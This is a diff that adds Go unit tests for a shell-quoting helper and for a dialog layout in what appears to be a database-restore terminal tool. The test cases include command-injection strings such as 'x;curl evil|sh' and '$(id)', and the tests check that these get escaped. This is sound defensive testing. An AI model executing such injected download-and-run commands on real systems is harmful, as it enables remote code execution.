@@ -139,3 +139,42 @@ func TestDetailWrapsAndScrolls(t *testing.T) {
 		t.Fatalf("scroll did not reach the end:\n%s", ansi.Strip(d.View()))
 	}
 }
+
+// A command built from API values and pasted into a shell runs exactly
+// its words: a username like x;curl … stays one argument.
+func TestShellQuote(t *testing.T) {
+	cases := map[string]string{
+		"orders-prod.db.example.com": "orders-prod.db.example.com",
+		"gs://bkt/path/":             "gs://bkt/path/",
+		"x;curl evil|sh":             `'x;curl evil|sh'`,
+		"it's":                       `'it'\''s'`,
+		"$(id)":                      `'$(id)'`,
+		"":                           "''",
+	}
+	for in, want := range cases {
+		if got := ShellQuote(in); got != want {
+			t.Errorf("ShellQuote(%q) = %q, want %q", in, got, want)
+		}
+	}
+	if got := ShellCommand("mariadb", "--user", "a b"); got != "mariadb --user 'a b'" {
+		t.Errorf("ShellCommand = %q", got)
+	}
+}
+
+// The outcome dialog keeps its buttons on screen whatever the API said:
+// a long error and many findings are cut, not the choices.
+func TestOutcomeDialogKeepsItsButtons(t *testing.T) {
+	d := NewOutcomeDialog(common(), 1, "restore into orders-prod", strings.Repeat("a long transport error ", 40), "the restores of orders-prod", true)
+	var found []string
+	for i := range 12 {
+		found = append(found, fmt.Sprintf("restore %d into orders-prod: Running", i))
+	}
+	d.Checked(OutcomeCheckedMsg{ID: 1, Found: found})
+	out := d.View(56, 12)
+	if !strings.Contains(out, "[ Leave it ]") || !strings.Contains(out, "[ Send again ]") {
+		t.Fatalf("the buttons are off the dialog:\n%s", out)
+	}
+	if n := strings.Count(out, "\n") + 1; n > 12 {
+		t.Fatalf("the dialog is %d lines high in 12:\n%s", n, out)
+	}
+}
